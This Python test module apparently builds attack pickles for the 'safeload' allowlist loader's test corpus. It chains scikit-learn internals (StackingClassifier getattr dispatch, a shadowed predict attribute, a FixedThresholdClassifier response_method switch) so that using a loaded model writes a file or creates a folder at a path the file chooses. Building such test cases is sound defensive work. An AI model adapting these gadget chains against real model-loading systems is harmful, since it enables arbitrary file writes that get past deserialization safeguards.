"""Use-time attack payloads: files built only from allowlisted names that misbehave later.

Each builder assembles an object graph out of classes on safeload's default allowlist, gives it
the state an attacker would, and pickles it. Loading such a file runs nothing; calling the
public method the case names (``AttackCase.use``) on the result creates the marker, through
scikit-learn's own code acting on that state. Part of the attack corpus behind
:mod:`safeload.testing`; nothing here runs a payload.
"""

from __future__ import annotations

import functools
import pickle
from typing import Any

__all__ = ["USE_INPUT_SHAPE", "fixed_threshold_memory", "shadowed_predict", "stacking_tofile"]

#: The input every use-time case is called with: ``numpy.zeros(USE_INPUT_SHAPE)``.
USE_INPUT_SHAPE = (2, 3)


def _bare(cls: type, **state: Any) -> Any:
    """An instance made without ``__init__``, holding exactly ``state`` (as a file can)."""
    obj: Any = object.__new__(cls)
    obj.__dict__.update(state)
    return obj


def _stacking(estimators: list[Any], methods: list[str]) -> Any:
    from sklearn.ensemble import StackingClassifier
    from sklearn.linear_model import LogisticRegression

    params = StackingClassifier(estimators=[("a", LogisticRegression())]).get_params(deep=False)
    return _bare(
        StackingClassifier,
        **params,
        estimators_=estimators,
        stack_method_=methods,
        final_estimator_=LogisticRegression(),
    )


def _writer(marker: str) -> Any:
    """A callable, made of allowlisted objects only, that writes a file at ``marker`` when
    called with any one argument: ``partial(scorer, inner, marker)(X)`` becomes
    ``inner.score(marker, X)`` -> ``inner.predict(marker)`` -> ``array.tofile(marker)``, the
    array being a 0-d bytes array that ``inner`` holds where an estimator belongs."""
    import numpy as np
    from sklearn.metrics._scorer import _PassthroughScorer

    content = b"written by a loaded model at use time\n"
    payload = np.array(content, dtype=f"S{len(content)}")
    inner = _stacking([payload], ["tofile"])
    return functools.partial(_PassthroughScorer(None), inner, marker)


def stacking_tofile(marker: str) -> bytes:
    """The chain of issue 13: ``StackingClassifier.predict`` calls
    ``getattr(estimators_[i], stack_method_[i])(X)`` with both taken from the file."""
    return pickle.dumps(_stacking([_writer(marker)], ["__call__"]), protocol=4)


def shadowed_predict(marker: str) -> bytes:
    """A state key ``predict`` hides the class's method: ``model.predict(X)`` calls what the
    file stored there."""
    from sklearn.linear_model import LogisticRegression

    model = _bare(LogisticRegression, **LogisticRegression().get_params(), predict=_writer(marker))
    return pickle.dumps(model, protocol=4)


def fixed_threshold_memory(marker: str) -> bytes:
    """``FixedThresholdClassifier.response_method="fit"`` (validated only in ``fit``) turns
    ``predict`` into ``estimator_.fit(X)``, and a ``Pipeline(memory=path)`` there creates a cache
    folder at the path the file chose."""
    import numpy as np
    from sklearn.linear_model import LogisticRegression
    from sklearn.model_selection import FixedThresholdClassifier
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler

    x = np.arange(12.0).reshape(4, USE_INPUT_SHAPE[1])
    pipe = Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression())])
    pipe.fit(x, [0, 1, 0, 1]).set_params(memory=marker)
    model = _bare(
        FixedThresholdClassifier,
        **FixedThresholdClassifier(LogisticRegression()).get_params(deep=False),
        estimator_=pipe,
    )
    model.response_method = "fit"
    return pickle.dumps(model, protocol=4)
